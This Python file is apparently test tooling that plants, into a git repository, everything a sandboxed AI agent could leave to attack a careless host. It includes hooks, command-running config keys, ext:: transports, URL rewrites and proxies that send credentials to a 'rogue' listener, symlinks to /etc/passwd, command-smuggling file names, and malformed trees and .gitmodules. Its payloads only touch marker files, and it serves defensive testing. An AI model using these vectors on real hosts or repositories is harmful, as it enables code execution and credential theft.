"""Everything that an agent can plant for git on a careless host, in one place: `python3 planted.py MARKS ROGUE`.

Run as a program it plants into the repository that it stands in, which is how an agent inside a sandbox is made to
obey; the tests of the host's half call `plant` themselves. A command that runs anywhere leaves a file in `MARKS`, and
`ROGUE` is the address of a listener that must never hear of anybody. It needs git and Python's own library alone.

The list is the measured one (facts, 4.2: in a careless set-up most of these ran on the host) and what followed it.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import socket
import subprocess
import sys
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path

HOOKS = (
    *("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-merge", "pre-push"),
    *("pre-rebase", "reference-transaction", "post-index-change", "fsmonitor-watchman", "pre-receive", "update"),
    *("post-receive", "post-update", "push-to-checkout", "pre-auto-gc", "post-rewrite", "applypatch-msg"),
)
DRIVEN = "* filter=evil diff=evil merge=evil\n"
ODD_NAMES = (
    *(b"a\nb", b"\xe2\x80\xaegnp.exe", b"\xff\xfe", b"-rf", b"--upload-pack=touch ran", b"$(touch ran)", b"`id`;x"),
    *(b"\x1b[31mred", b"x" * 255, b"con", b"nul.txt", b"a\\b", b" ", b"..."),
)
DEEP = "/".join(["d" * 200] * 12)  # longer than many programs expect of a path


def settings(command: Mapping[str, str], rogue: str) -> Iterator[tuple[str, str]]:
    """Configuration that names commands, and that leads credentials to somebody else."""
    commands = {
        "core.fsmonitor": "fsmonitor",
        "core.pager": "pager",
        "core.editor": "editor",
        "sequence.editor": "sequence-editor",
        "core.sshCommand": "ssh",
        "core.askPass": "askpass",
        "core.alternateRefsCommand": "alternate-refs",
        "core.gitProxy": "git-proxy",
        "diff.external": "diff-external",
        "diff.evil.command": "diff-driver",
        "diff.evil.textconv": "textconv",
        "merge.evil.driver": "merge-driver",
        "gpg.program": "gpg",
        "gpg.ssh.program": "gpg-ssh",
        "gpg.ssh.defaultKeyCommand": "gpg-key",
        "uploadpack.packObjectsHook": "pack-objects",
        "remote.origin.uploadpack": "uploadpack",
        "remote.origin.receivepack": "receivepack",
        "trailer.x.cmd": "trailer",
        "interactive.diffFilter": "diff-filter",
        "mergetool.x.cmd": "mergetool",
        "difftool.x.cmd": "difftool",
        "pager.log": "pager-log",
    }
    yield from ((key, command[name]) for key, name in commands.items())
    yield from {
        "core.hooksPath": "hooks",
        "filter.evil.clean": command["clean"] + "cat",
        "filter.evil.smudge": command["smudge"] + "cat",
        "filter.evil.required": "true",
        "commit.gpgSign": "true",
        "tag.gpgSign": "true",
        "credential.helper": "!" + command["credential"],
        "remote.origin.url": "ext::sh -c " + command["ext"],
        "remote.origin.promisor": "true",
        "protocol.ext.allow": "always",
        "url.ext::sh -c touch% .insteadOf": "file://",
        f"url.{rogue}.insteadOf": "https://",
        f"url.{rogue}push/.pushInsteadOf": "https://",
        "http.proxy": rogue,
        f"http.{rogue}.extraHeader": "Authorization: stolen",
        "http.https://github.com/.proxy": rogue,
        "submodule.x.update": "!" + command["submodule"],
        "submodule.x.url": "ext::sh -c " + command["submodule-ext"],
        "submodule.recurse": "true",
        "alias.status": "!" + command["alias"],
        "include.path": "../more",
        "includeIf.gitdir:/**.path": "../more",
        "extensions.worktreeConfig": "true",
    }.items()


class _Commands(dict[str, str]):
    """Name -> a command that leaves its mark."""

    def __init__(self, marks: str) -> None:
        super().__init__()
        self._marks = marks

    def __missing__(self, name: str) -> str:
        return f"touch {self._marks}/{name};"


def plant(folder: Path, marks: Path | str, rogue: str) -> None:
    """All of it at once; work of the ordinary kind beside it, which must come home."""
    command = _Commands(str(marks))
    repository = folder / ".git"
    for place in (repository / "hooks", folder / "hooks"):
        place.mkdir(exist_ok=True)
        for name in HOOKS:
            (place / name).write_text(f"#!/bin/sh\n{command[f'hook-{name}']}\n")
            (place / name).chmod(0o755)
    for key, value in settings(command, rogue):
        subprocess.run(["git", "config", key, value], cwd=folder, check=True)
    (folder / "more").write_text(f"[core]\n\tfsmonitor = {command['included']}\n")
    (repository / "config.worktree").write_text(f"[core]\n\tfsmonitor = {command['worktree-config']}\n")
    (repository / "info").mkdir(exist_ok=True)
    (repository / "info" / "attributes").write_text(DRIVEN)
    (folder / ".gitattributes").write_text(DRIVEN)
    (folder / ".lfsconfig").write_text(f"[lfs]\n\turl = {rogue}\n")
    _plant_objects(repository)
    _plant_files(folder, command)
    (folder / "adder.py").write_text("def add(a, b):\n    return a + b\n")


def _plant_objects(repository: Path) -> None:
    """Refs outside of branches, refs whose names lead out, and objects from somewhere else."""
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repository.parent, capture_output=True, text=True, check=True
    )
    commit = head.stdout.strip()
    person = b"Mallory <m@x> 1700000000 +0000"
    empty = write_object(repository, "tree", b"")
    other = write_object(
        repository, "commit", b"tree %s\nauthor %s\ncommitter %s\n\nx\n" % (empty.encode(), person, person)
    )
    refs = ("refs/crewcap/bases/x", "refs/notes/commits", "refs/evil/x", "refs/stash")
    for ref, target in {**dict.fromkeys(refs, commit), f"refs/replace/{commit}": other}.items():
        (repository / ref).parent.mkdir(parents=True, exist_ok=True)
        (repository / ref).write_text(f"{target}\n")
    with (repository / "packed-refs").open("a") as file:
        file.write(f"{commit} refs/heads/../../config\n{commit} refs/heads/a..b\n{commit} refs/heads/$(id)\n")
    with (repository / "objects" / "info" / "alternates").open("a") as file:
        file.write("/etc\n/nonexistent/objects\n\n# no comment\n")


def _plant_files(folder: Path, command: Mapping[str, str]) -> None:
    """Links out, things that are no files, names that mean something to somebody, a repository in the repository."""
    for name, target in {"link": "/etc/passwd", "up": "../../..", "all": "/", "self": "self"}.items():
        (folder / name).symlink_to(target)
    with contextlib.suppress(OSError):
        os.mkfifo(folder / "fifo")
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "socket"))
    for odd in ODD_NAMES:
        descriptor = os.open(os.fsencode(folder) + b"/" + odd, os.O_CREAT | os.O_WRONLY)
        os.write(descriptor, b"odd\n")
        os.close(descriptor)
    deep = os.open(folder, os.O_RDONLY)
    for part in DEEP.split("/"):
        os.mkdir(part, dir_fd=deep)
        deep, outer = os.open(part, os.O_RDONLY, dir_fd=deep), deep
        os.close(outer)
    os.close(os.open("leaf", os.O_CREAT | os.O_WRONLY, dir_fd=deep))
    os.close(deep)
    nested = folder / "nested"
    subprocess.run(["git", "init", "--quiet", str(nested)], check=True)
    who = ("-c", "user.name=m", "-c", "user.email=m@x")
    subprocess.run(["git", *who, "commit", "--quiet", "--allow-empty", "-m", "inner"], cwd=nested, check=True)
    for key in ("core.fsmonitor", "core.sshCommand"):
        subprocess.run(["git", "config", key, command["nested"]], cwd=nested, check=True)


# --- objects that git itself would refuse to make ------------------------------------------------------------------


def write_object(repository: Path, kind: str, content: bytes) -> str:
    """An object as it is."""
    data = f"{kind} {len(content)}".encode() + b"\0" + content
    name = hashlib.sha1(data, usedforsecurity=False).hexdigest()
    place = repository / "objects" / name[:2] / name[2:]
    place.parent.mkdir(exist_ok=True)
    if not place.exists():
        place.write_bytes(zlib.compress(data))
    return name


def entry(mode: bytes, name: bytes, target: str) -> bytes:
    """A line of a tree."""
    return mode + b" " + name + b"\0" + bytes.fromhex(target)


def _named_like_git() -> Mapping[str, bytes]:
    """Names that some file system takes for `.git`."""
    return {
        "dot git folder": b".git",
        "dot git folder in capitals": b".GIT",
        "dot git for another file system": b"git~1",
        "dot git with a dot behind": b".git.",
        "dot git with a blank behind": b".git ",
        "dot git with a stream": b".git::$INDEX_ALLOCATION",
        "dot git with a letter that a Mac ignores": ".g\u200cit".encode(),
        "dot git behind a backslash": b"a\\.git",
        "dot dot": b"..",
        "dot": b".",
        "empty name": b"",
    }


MODULES = {
    "gitmodules that are an option": '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n',
    "gitmodules whose path is an option": '[submodule "x"]\n\tpath = -x\n\turl = https://x.invalid\n',
    "gitmodules out of the tree": '[submodule "../../x"]\n\tpath = x\n\turl = https://x.invalid\n',
    "gitmodules with a command": '[submodule "x"]\n\tpath = x\n\turl = https://x.invalid\n\tupdate = !touch ran\n',
    "gitmodules with a line end in an address": '[submodule "x"]\n\tpath = x\n\turl = "https://x\\n.invalid/"\n',
    "gitmodules with a line end in percent": '[submodule "x"]\n\tpath = x\n\turl = https://x%0a.invalid/\n',
    "gitmodules with a relative way to a host": '[submodule "x"]\n\tpath = x\n\turl = ./%0ahost=evil/x\n',
}

BAD_TREES = (
    *_named_like_git(),
    *MODULES,
    *("slash in a name", "same name twice", "not sorted", "null object", "gitmodules as a link", "a mode of its own"),
)


def bad_tree(repository: Path, kind: str) -> str:
    """A tree that would do harm, or break people's git, if it were let in."""
    blob = write_object(repository, "blob", b"[core]\n\tfsmonitor = touch /tmp/ran\n")
    if kind in _named_like_git():
        inner = write_object(repository, "tree", entry(b"100644", b"config", blob))
        return write_object(repository, "tree", entry(b"40000", _named_like_git()[kind], inner))
    if kind in MODULES:
        modules = write_object(repository, "blob", MODULES[kind].encode())
        return write_object(repository, "tree", entry(b"100644", b".gitmodules", modules))
    link = write_object(repository, "blob", b"elsewhere")
    entries = {
        "slash in a name": entry(b"100644", b"a/b", blob),
        "same name twice": entry(b"100644", b"a", blob) + entry(b"100644", b"a", blob),
        "not sorted": entry(b"100644", b"b", blob) + entry(b"100644", b"a", blob),
        "null object": entry(b"100644", b"a", "0" * 40),
        "gitmodules as a link": entry(b"120000", b".gitmodules", link),
        "a mode of its own": entry(b"177777", b"a", blob),
    }
    return write_object(repository, "tree", entries[kind])


if __name__ == "__main__":
    plant(Path.cwd(), sys.argv[1], sys.argv[2])
